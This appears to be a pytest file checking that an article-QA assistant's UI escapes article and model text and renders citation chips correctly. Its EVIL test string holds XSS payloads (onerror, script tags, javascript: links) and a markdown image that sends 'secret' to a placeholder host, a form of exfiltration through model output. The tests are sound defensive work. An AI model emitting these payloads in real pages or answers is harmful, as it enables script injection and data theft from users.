"""The UI's HTML: everything from an article or a model is escaped; chips point at real spans."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from assistant.schema import Answer, Citation, Passage
from assistant.ui.render import answer_html, article_html, chip, para_id, quote_span, status_html
from index.document import Paragraph

EVIL = (
    '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> '
    "![x](http://example.invalid/?q=secret) [click](javascript:window.__pwned=3) "
    '<a href="javascript:alert(1)">x</a> " onmouseover="alert(1)'
)
ALLOWED_TAGS = {"div", "span", "a", "mark", "ul", "li", "p", "h2", "h3", "article", "b"}


class _Tags(HTMLParser):
    """Collects every tag and attribute the browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags


def assert_inert(html: str) -> None:
    for tag, attrs in tags_of(html):
        assert tag in ALLOWED_TAGS, f"unexpected <{tag}> in {html!r}"
        assert not any(name.startswith("on") for name in attrs), attrs
        assert "src" not in attrs
        href = attrs.get("href")
        assert href is None or re.fullmatch(r"#fn-p-[A-Za-z0-9_-]+-\d+(~\d+-\d+)?", href), href


def para(number: int, text: str, start: int, section: str | None = None, doc: str = "doc") -> Paragraph:
    return Paragraph(
        document=doc, number=number, text=text, start=start, end=start + len(text), section=section
    )


def citation_for(p: Paragraph, quote: str, supported: bool = True) -> Citation:
    rel = p.text.index(quote)
    return Citation(
        document=p.document,
        paragraph=p.number,
        paragraph_text=p.text,
        quote=quote,
        start=p.start + rel,
        end=p.start + rel + len(quote),
        supported=supported,
    )


def test_answer_text_from_a_model_is_escaped_and_inert():
    p = para(1, f"Kim met Putin. {EVIL}", 100)
    c = citation_for(p, "Kim met Putin.")
    answer = Answer("q", f"{EVIL} They met [¶1].", [c], abstained=False, backend="fake")
    html = answer_html(answer, {("doc", 1): p.start})
    assert_inert(html)
    assert "&lt;img src=x" in html and "&lt;script&gt;" in html
    # The markdown is left literal (the chat renders no markdown), so no remote image appears.
    assert "![x](http://example.invalid/?q=secret)" in html


def test_article_text_is_escaped_and_inert():
    p1 = para(1, f"First {EVIL}", 0, section=f"Section {EVIL}")
    p2 = para(2, "Second paragraph.", 200)
    html = article_html([("doc", f"Title {EVIL}", f"<b>{EVIL}</b>")], [p1, p2])
    assert_inert(html)
    assert html.count("&lt;img") == 4  # title, date, section, paragraph


def test_chip_names_the_paragraph_and_the_quote_span_in_utf16_units():
    # An astral character (2 UTF-16 units) before the quote shifts JavaScript offsets.
    p = para(3, "😀 Intro. Kim will meet Putin in Vladivostok.", 50)
    c = citation_for(p, "Kim will meet Putin in Vladivostok.")
    span = quote_span(c, p.start)
    assert span == (10, 10 + len(c.quote))  # 1 code point -> 2 units, so start 9 -> 10
    (tag, attrs), *_ = tags_of(chip(c, p.start))
    assert tag == "a" and attrs["href"] == f"#{para_id('doc', 3)}~10-45"
    assert "Vladivostok" in attrs["title"]


def test_chip_finds_the_quote_when_offsets_are_wrong():
    p = para(2, "One. Two three.", 40)
    c = citation_for(p, "Two three.")
    assert quote_span(c, paragraph_start=0) == (5, 15)  # wrong start: fall back to the verbatim text


def test_unsupported_and_removed_citations_are_shown_not_hidden():
    p = para(2, "Claim one. Claim two.", 0)
    good = citation_for(p, "Claim one.")
    weak = citation_for(p, "Claim two.", supported=False)
    answer = Answer(
        "q",
        "A [¶2]. B [¶2]. C [¶7].",
        [good, weak],
        abstained=False,
        backend="llm:test",
        removed_citations=["¶7: quote not found in the paragraph"],
        notice="The LLM failed; answered offline instead.",
    )
    html = answer_html(answer, {("doc", 2): 0})
    assert_inert(html)
    chips = [(t, a) for t, a in tags_of(html) if "fn-chip" in (a.get("class") or "")]
    classes = [a["class"] for _, a in chips]
    assert classes == ["fn-chip", "fn-chip fn-unsupported", "fn-chip fn-removed"]
    assert "quote not found" in html and "Not supported" in html
    assert "answered offline instead" in html


def test_abstention_looks_different_and_lists_paragraphs_considered():
    passages = [Passage(para(n, f"Text {n}", n * 10), score=0.5) for n in (4, 2)]
    answer = Answer(
        "q", "The article doesn't say.", [], abstained=True, backend="extractive", passages=passages
    )
    html = answer_html(answer)
    assert_inert(html)
    assert 'class="fn-abstain"' in html
    hrefs = [a["href"] for t, a in tags_of(html) if t == "a"]
    assert hrefs == [f"#{para_id('doc', 4)}", f"#{para_id('doc', 2)}"]


def test_article_pane_has_title_date_sections_numbers_and_marks_cited_quotes():
    p1 = para(1, "Lead paragraph.", 0)
    p2 = para(2, "Kim heads to Vladivostok. More text.", 20, section="Where")
    p3 = para(3, "Other.", 60, section="Where")
    c = citation_for(p2, "Kim heads to Vladivostok.")
    answer = Answer("q", "x [¶2].", [c], abstained=False, backend="extractive")
    html = article_html([("doc", "The title", "Monday")], [p1, p2, p3], answer)
    tags = tags_of(html)
    assert [t for t, _ in tags if t in ("h2", "h3")] == ["h2", "h3"]  # one heading per section change
    paras = {a["id"]: a for t, a in tags if t == "p"}
    assert list(paras) == [para_id("doc", n) for n in (1, 2, 3)]
    assert "fn-cited" in paras[para_id("doc", 2)]["class"]
    assert "fn-cited" not in paras[para_id("doc", 1)]["class"]
    assert paras[para_id("doc", 2)]["data-quotes"] == "0-25"
    assert '<mark class="fn-quote">Kim heads to Vladivostok.</mark>' in html
    assert "¶3" in html and "Monday" in html


@pytest.mark.parametrize("backend,label", [("extractive", "offline extractive"), ("llm:qwen", "llm:qwen")])
def test_status_line_names_the_backend_and_shows_a_notice(backend, label):
    answer = Answer("q", "t", [], abstained=True, backend=backend, notice="fell <back>")
    html = status_html("ignored", answer, 0.4)
    assert label in html and "in 0.4 s" in html
    assert "fell &lt;back&gt;" in html
